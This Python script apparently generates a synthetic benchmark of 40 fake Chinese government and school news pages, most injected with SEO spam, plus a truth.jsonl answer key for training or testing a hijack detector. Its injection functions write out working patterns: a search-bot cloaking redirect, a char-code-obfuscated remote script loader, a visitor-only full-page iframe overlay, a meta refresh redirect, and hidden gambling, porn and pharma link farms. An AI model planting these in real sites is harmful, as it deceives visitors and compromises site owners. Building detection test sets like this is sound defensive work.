# -*- coding: utf-8 -*-
"""Generate synthetic-v14 (40 pages: 28 hijacked, 12 clean of which 4 legit).

Usage: python3 make_set.py [OUTDIR]   (default ../synthetic-v14). Fixed seed; byte-identical re-runs.
"""
import glob
import html
import json
import os
import random
import sys

from articles import LEGIT, REGULAR

SEED = 141403
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v14")
rng = random.Random(SEED)

# ---------------------------------------------------------------- sites
SITES = [
    ("R1", "zqtw.lanshui.edu.cn", "/?post={n}", "蓝水职业学院团委"),
    ("R2", "www.heshanzx.com.cn", "/Article/ShowArticle.asp?ArticleID={n}", "鹤山中学"),
    ("R3", "news.tongliang-college.edu.cn", "/news/{y}/{n}.html", "通梁学院"),
    ("R4", "www.yuexi.gov.cn", "/xxgk/{y}/{n}.shtml", "悦溪县人民政府"),
    ("R5", "www.mingtang.gov.cn", "/html/{y}/zwdt_{n}.html", "明塘镇人民政府"),
    ("R6", "www.fenghe.gov.cn", "/news/detail/{n}", "丰河区人民政府"),
]
ENC = {"R1": "utf-8", "R2": "gbk", "R3": "utf-8", "R4": "utf-8", "R5": "gb18030", "R6": "utf-8"}
NAMES = ["韦思远", "邵佳琪", "贺一鸣", "蒋晓岚", "范志恒", "孔令仪", "顾书涵", "郝建平", "柏雨萱", "窦立新",
         "钱沐阳", "卢晓彤", "葛文博", "曹芷若", "严景川", "尹若溪"]


def esc(s):
    return html.escape(s, quote=False)


# ---------------------------------------------------------------- injection forms
# each returns dict(head, top, inart, bottom, title_prefix, title_suffix, h1, spam, tags, modelled)
def f_hidden_en_casino(r):
    anchors = ["Lumora Casino no deposit bonus", "Lumora live roulette online", "best payout slots at Lumora"]
    links = "".join('<a href="https://lumora-casino.example/%d">%s</a> ' % (i, a) for i, a in enumerate(anchors))
    return dict(bottom='<div style="position:absolute;left:-8000px;top:-8000px;overflow:hidden">%s</div>' % links,
                spam=anchors, tags=[], modelled="hidden off-screen English casino link farm on a gov page")


def f_hidden_id_slot(r):
    anchors = ["slot gacor Pandawin88 hari ini", "link alternatif Pandawin88", "bandar togel resmi Pandawin88"]
    links = "\n".join('<li><a href="https://pandawin88.example/?r=%d" rel="dofollow">%s</a></li>' % (i, a)
                      for i, a in enumerate(anchors))
    return dict(head='<style>.ft-sponsor-k{font-size:0;height:0;overflow:hidden}</style>',
                inart='<ul class="ft-sponsor-k">\n%s\n</ul>' % links,
                spam=anchors, tags=[], modelled="Indonesian slot/togel anchors hidden by a stylesheet class")


def f_ua_cloak(r):
    js = ('<script type="text/javascript">(function(){var ua=navigator.userAgent.toLowerCase(),rf=document.referrer;'
          'if(/baiduspider|googlebot|sogou/.test(ua))return;'
          'if(rf.indexOf("baidu.")>-1||rf.indexOf("google.")>-1||rf.indexOf("bing.")>-1){'
          'window.location.href="https://go.kirinplay-asia.example/lp?src="+encodeURIComponent(location.host);}})();</script>')
    return dict(head=js, spam=["go.kirinplay-asia.example"], tags=["<script"],
                modelled="UA/referrer cloaking redirect script in <head>")


def f_charcode_loader(r):
    url = "https://cdn.rubyspin-static.example/t.js"
    codes = ",".join(str(ord(c)) for c in url)
    js = ('<script>var _0xq=[%s];var s=document.createElement("script");'
          's.src=String.fromCharCode.apply(null,_0xq);document.getElementsByTagName("head")[0].appendChild(s);'
          '/* rubyspin-static */</script>' % codes)
    return dict(bottom=js, spam=["rubyspin-static"], tags=["<script", "String.fromCharCode"],
                modelled="char-code script loader appended before </body>")


def f_docwrite_ja(r):
    line = "オンラインカジノ 入金不要ボーナス ミヤビスロット"
    js = ('<script>document.write(\'<div style="display:none"><a href="https://miyabi-slot.example/">%s</a>'
          '</div>\');</script>' % line)
    return dict(top=js, spam=[line, "miyabi-slot.example"], tags=["<script", "document.write"],
                modelled="document.write of a hidden Japanese casino link")


def f_spam_title_en(r):
    t = "Situs Judi Slot Online Terpercaya ZeusRaja77"
    return dict(title_prefix=t + " - ", spam=[t], tags=[], modelled="English/Indonesian spam <title> with real body")


def f_body_lines_vi(r):
    lines = ["Nhà cái Sao Bạc 68 uy tín hàng đầu châu Á", "Đăng ký Sao Bạc 68 nhận thưởng 150k miễn phí"]
    ps = "".join("<p>%s</p>" % esc(l) for l in lines)
    return dict(inart_end=ps, spam=lines, tags=[], modelled="Vietnamese betting lines appended inside the article body")


def f_meta_refresh(r):
    host = "thai-hongfa168.example"
    return dict(head='<meta http-equiv="refresh" content="3;url=https://%s/th/">' % host,
                title_prefix="สล็อตเว็บตรง หงฟา168 แตกง่าย | ",
                spam=["สล็อตเว็บตรง หงฟา168 แตกง่าย", host], tags=['http-equiv="refresh"'],
                modelled="meta refresh to a Thai slot site plus Thai spam title")


def f_keyword_title_zh(r):
    kw = "金鼎汇娱乐_金鼎汇娱乐官网_金鼎汇真人百家乐"
    return dict(title_replace=kw, h1_keep=True, spam=[kw], tags=[],
                modelled="keyword-stuffed Chinese casino <title>, real headline kept in the page")


def f_friend_links(r):
    brands = ["澳彩云顶城", "星际棋牌中心", "银河八方娱乐"]
    links = " | ".join('<a href="https://yd%d.example/" target="_blank">%s</a>' % (i, b) for i, b in enumerate(brands))
    return dict(bottom='<div class="flink"><b>友情链接：</b>%s</div>' % links, spam=brands, tags=[],
                modelled="sold 友情链接 block with gambling brands in the footer")


def f_iframe_overlay(r):
    host = "pokerlagoon-vip.example"
    js = ('<script>if(!/spider|bot/i.test(navigator.userAgent)){document.write(\'<iframe src="https://%s/" '
          'style="position:fixed;top:0;left:0;width:100%%;height:100%%;border:0;z-index:99999"></iframe>\');}</script>' % host)
    return dict(top=js, spam=[host], tags=["<script", "iframe"], modelled="full-page fixed iframe overlay written for visitors")


def f_brand_credit_th(r):
    credit = "สนับสนุนโดย betnakhon99 เว็บพนันบอลออนไลน์"
    return dict(bottom_footer='<p class="sponsor-line"><a href="https://betnakhon99.example/">%s</a></p>' % credit,
                spam=[credit], tags=[], modelled="Thai betting brand credit line in the footer")


def f_porn_line(r):
    line = "蜜柚影院午夜福利,蜜柚影院成人直播,蜜柚影院无码专区"
    return dict(top='<p class="kwline">%s</p>' % line, title_suffix="_" + line.split(",")[0],
                spam=[line, line.split(",")[0]], tags=[], modelled="porn keyword line above the page and in <title>")


def f_loan_pharma_en(r):
    anchors = ["pinjaman online cepat cair tanpa BI checking DanaKilat", "buy generic tadalafil overnight RxHarbor"]
    links = "".join('<a href="https://spamhub-%d.example/">%s</a>' % (i, a) for i, a in enumerate(anchors))
    js = '<script>document.getElementById("nvq7").style.display="none";</script>'
    return dict(inart_mid='<div id="nvq7">%s</div>%s' % (links, js), spam=anchors, tags=["<script"],
                modelled="loan/pharma anchors in a block hidden by an inline script, mid-article")


BRANDS = ["Lumora", "Pandawin88", "kirinplay", "rubyspin", "ミヤビスロット", "miyabi-slot", "ZeusRaja77", "Sao Bạc 68",
          "hongfa168", "หงฟา168", "金鼎汇", "澳彩云顶城", "星际棋牌中心", "银河八方娱乐", "pokerlagoon", "betnakhon99",
          "蜜柚影院", "DanaKilat", "RxHarbor"]

FORMS = [
    ("hidden_offscreen_casino_links_en", f_hidden_en_casino),
    ("css_class_hidden_slot_links_id", f_hidden_id_slot),
    ("script_ua_referrer_cloak_redirect", f_ua_cloak),
    ("script_charcode_loader", f_charcode_loader),
    ("script_document_write_ja", f_docwrite_ja),
    ("spam_title_prefix_id", f_spam_title_en),
    ("spam_body_lines_vi", f_body_lines_vi),
    ("meta_refresh_redirect_th", f_meta_refresh),
    ("keyword_stuffed_title_zh", f_keyword_title_zh),
    ("friend_links_sold_zh", f_friend_links),
    ("script_iframe_overlay", f_iframe_overlay),
    ("brand_credit_footer_th", f_brand_credit_th),
    ("porn_keyword_line_zh", f_porn_line),
    ("script_hidden_loan_pharma_links", f_loan_pharma_en),
]


# ---------------------------------------------------------------- templates
def byline(tid, d, src, au, views):
    y, m, dd = d.split("-")
    if tid == "R1":
        return '<div class="log-info"><span class="date">%s年%s月%s日</span> &middot; 作者：%s &middot; 来源：%s &middot; 阅读(%d)</div>' % (y, m, dd, au, src, views)
    if tid == "R2":
        return ('<tr><td align="center" class="art_info">文章来源：%s&nbsp;&nbsp;&nbsp;作者：%s&nbsp;&nbsp;&nbsp;'
                '发布时间：%s&nbsp;&nbsp;&nbsp;浏览次数：<script>document.write("%d")</script></td></tr>' % (src, au, d, views))
    if tid == "R3":
        return ('<div class="entry-meta"><time datetime="%sT09:30:00+08:00">%s</time><span class="sep">/</span>'
                '<span class="entry-author">撰稿：%s</span><span class="sep">/</span><span class="entry-source">供稿单位：%s</span></div>' % (d, d, au, src))
    if tid == "R4":
        return ('<table class="xxgk-meta"><tr><th>索引号</th><td>11%06d/2023-%05d</td><th>发布机构</th><td>%s</td></tr>'
                '<tr><th>发布日期</th><td>%s</td><th>信息来源</th><td>%s</td></tr></table>'
                '<div class="xxgk-editor">责任编辑：%s</div>' % (views * 37 % 1000000, views, src, d, src, au))
    if tid == "R5":
        return '<div class="info">【发布时间：%s】【信息来源：%s】【作者：%s】【点击：%d】</div>' % (d, src, au, views)
    return ('<div data-v-3f2a1c class="detail-meta"><span data-v-3f2a1c>来源：%s</span>'
            '<span data-v-3f2a1c>%s</span><span data-v-3f2a1c>编辑：%s</span></div>' % (src, d, au))


def render(tid, site, page_title, h1, bl, body_html, inj):
    enc = ENC[tid]
    meta = '<meta charset="%s">' % enc if tid in ("R1", "R3", "R6") else \
        '<meta http-equiv="Content-Type" content="text/html; charset=%s">' % enc
    head = inj.get("head", "")
    top = inj.get("top", "")
    bottom = inj.get("bottom", "")
    foot = '<p>版权所有：%s</p>%s' % (site[3], inj.get("bottom_footer", ""))
    t = '<title>%s</title>' % esc(page_title)
    if tid == "R1":
        return ('<!DOCTYPE html>\n<html lang="zh-CN"><head>%s%s<link rel="stylesheet" href="/content/templates/default/main.css">%s</head>\n'
                '<body>%s<div id="header"><h1 class="blogname">%s</h1></div><div id="content"><div class="logcontent">'
                '<h2 class="logtitle">%s</h2>%s<div class="log-body">%s</div><div class="log-tag">标签：工作动态</div></div>'
                '<div id="sidebar"><h3>最新文章</h3><ul><li>团学工作简报</li></ul></div></div>'
                '<div id="footer">%s Powered by emlog</div>%s</body></html>\n') % (meta, t, head, top, site[3], esc(h1), bl, body_html, foot, bottom)
    if tid == "R2":
        return ('<html><head>%s%s<link href="/Skin/sdcms.css" rel="stylesheet" type="text/css">%s</head>\n<body>%s'
                '<table width="960" align="center" border="0" cellpadding="0" cellspacing="0"><tr><td class="topbanner">%s</td></tr>'
                '<tr><td class="nav">首页 | 学校概况 | 校园新闻 | 教育教学</td></tr></table>\n'
                '<table width="960" align="center"><tr><td class="position">您现在的位置：首页 &gt;&gt; 校园新闻 &gt;&gt; 正文</td></tr>'
                '<tr><td align="center" class="art_title"><font size="4"><b>%s</b></font></td></tr>%s'
                '<tr><td class="art_content" id="fontzoom">%s</td></tr></table>\n'
                '<table width="960" align="center"><tr><td class="copyright">%s</td></tr></table>%s</body></html>\n') % (meta, t, head, top, site[3], esc(h1), bl, body_html, foot, bottom)
    if tid == "R3":
        return ('<!DOCTYPE html>\n<html lang="zh"><head>%s%s<meta name="generator" content="Craft CMS">%s</head>\n<body class="news-entry">%s'
                '<header class="site-header"><a class="logo" href="/">%s</a><nav>新闻网 · 学院要闻 · 综合新闻</nav></header>'
                '<main><article class="entry"><header class="entry-header"><h1 class="entry-title">%s</h1>%s</header>'
                '<div class="entry-body rich-text">%s</div></article>'
                '<aside class="related"><h2>相关新闻</h2><ul><li>学院召开党委理论学习中心组学习会</li></ul></aside></main>'
                '<footer class="site-footer">%s</footer>%s</body></html>\n') % (meta, t, head, top, site[3], esc(h1), bl, body_html, foot, bottom)
    if tid == "R4":
        return ('<!DOCTYPE html>\n<html><head>%s%s<meta name="ArticleTitle" content="%s">%s</head>\n<body>%s'
                '<div class="sc-header">%s · 政府信息公开</div><div class="sc-breadcrumb">首页 &gt; 信息公开 &gt; 工作动态</div>'
                '<div class="sc-main"><div class="sc-article"><h1 class="sc-title">%s</h1>%s'
                '<div class="sc-content" id="zoom">%s</div><div class="sc-tools">【打印本页】【关闭窗口】</div></div></div>'
                '<div class="sc-footer">%s</div>%s</body></html>\n') % (meta, t, esc(h1), head, top, site[3], esc(h1), bl, body_html, foot, bottom)
    if tid == "R5":
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
                '<html><head>%s%s<meta name="keywords" content="政务动态">%s</head>\n<body>%s<div class="cf-top">%s</div>'
                '<div class="cf-wrap"><div class="cf-left"><div class="cf-pos">当前位置：<a href="/">首页</a> &gt; 政务动态</div>'
                '<div class="cf-show"><h3>%s</h3>%s<div class="cf-body">%s</div>'
                '<div class="cf-prev">上一篇：无</div></div></div></div><div class="cf-foot">%s</div>%s</body></html>\n') % (meta, t, head, top, site[3], esc(h1), bl, body_html, foot, bottom)
    return ('<!DOCTYPE html>\n<html lang="zh-CN" data-n-head-ssr><head>%s%s<meta data-n-head="ssr" name="description" content="%s">%s</head>\n'
            '<body>%s<div id="__nuxt"><div id="__layout"><div data-v-3f2a1c class="page-detail"><div data-v-3f2a1c class="top-bar">%s</div>'
            '<div data-v-3f2a1c class="detail-wrap"><h2 data-v-3f2a1c class="detail-title">%s</h2>%s'
            '<div data-v-3f2a1c class="detail-content ql-editor">%s</div></div><div data-v-3f2a1c class="footer">%s</div></div></div></div>'
            '<script>window.__NUXT__={layout:"default",data:[{}],serverRendered:true}</script>%s</body></html>\n') % (meta, t, esc(h1), head, top, site[3], esc(h1), bl, body_html, foot, bottom)


def body(paras, tid, inj):
    ps = list(paras)
    fmt = '<p style="text-indent:2em">%s</p>' if tid in ("R2", "R5") else '<p>%s</p>'
    out = [fmt % esc(p) for p in ps]
    if inj.get("inart_mid"):
        out.insert(1, inj["inart_mid"])
    if inj.get("inart"):
        out.insert(len(out) - 1, inj["inart"])
    if inj.get("inart_end"):
        out.append(inj["inart_end"])
    return "\n".join(out)


def main():
    devspam = set()
    devurls = set()
    for f in glob.glob(os.path.join(HERE, "..", "..", "dev", "*", "truth.jsonl")):
        for line in open(f, encoding="utf-8"):
            if line.strip():
                row = json.loads(line)
                devspam.update(s for s in row.get("spam_strings") or [] if len(s) >= 4)
                devurls.add((row.get("site") or "").lower())
    for b in BRANDS:
        for ds in devspam:
            assert b.lower() not in ds.lower() and ds.lower() not in b.lower(), (b, ds)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    plan = []
    for i, (fname, fn) in enumerate(FORMS):
        for k in range(2):
            plan.append(("hij", fname, fn))
    for k in range(8):
        plan.append(("clean", None, None))
    for k in range(4):
        plan.append(("legit", None, None))
    rng.shuffle(plan)
    rows = []
    tids = [s[0] for s in SITES]
    for n, (kind, fname, fn) in enumerate(plan, 1):
        site = SITES[(n * 5 + (n // 6)) % 6]
        tid = site[0]
        assert site[1] not in devurls, site[1]
        if kind == "legit":
            legit_i = sum(1 for p in plan[:n - 1] if p[0] == "legit")
            art = LEGIT[legit_i]
        else:
            art = REGULAR[rng.randrange(len(REGULAR))]
        h1, src, paras = art
        d = "2023-%02d-%02d" % (rng.randint(1, 11), rng.randint(1, 28))
        au = NAMES[rng.randrange(len(NAMES))]
        views = rng.randint(120, 4800)
        inj = fn(rng) if fn else {}
        for s in inj.get("spam", []):
            assert s.lower() not in {d.lower() for d in devspam}, s
        page_title = h1 + "_" + site[3]
        if inj.get("title_prefix"):
            page_title = inj["title_prefix"] + page_title
        if inj.get("title_suffix"):
            page_title = page_title + inj["title_suffix"]
        if inj.get("title_replace"):
            page_title = inj["title_replace"]
        bl = byline(tid, d, src, au, views)
        doc = render(tid, site, page_title, h1, bl, body(paras, tid, inj), inj)
        num = 1000 + n * 37
        url = "https://%s%s" % (site[1], site[2].format(n=num, y=d[:4]))
        pid = "syn14-%03d" % n
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(doc.encode(ENC[tid], "xmlcharrefreplace"))
        rows.append(dict(id=pid, url=url, title=h1, date=d, source=src, author=au, text="\n".join(paras),
                         hijacked=kind == "hij", injections=[fname] if fname else [],
                         spam_strings=inj.get("spam", []), legit=kind == "legit", lang="zh",
                         origin="synthetic (make_set.py, seed %d)%s" % (SEED, "; modelled on: " + inj["modelled"] if inj else ""),
                         kind="synthetic", site=site[1], capture="html", encoding=ENC[tid], template=tid,
                         required_tags=inj.get("tags", [])))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
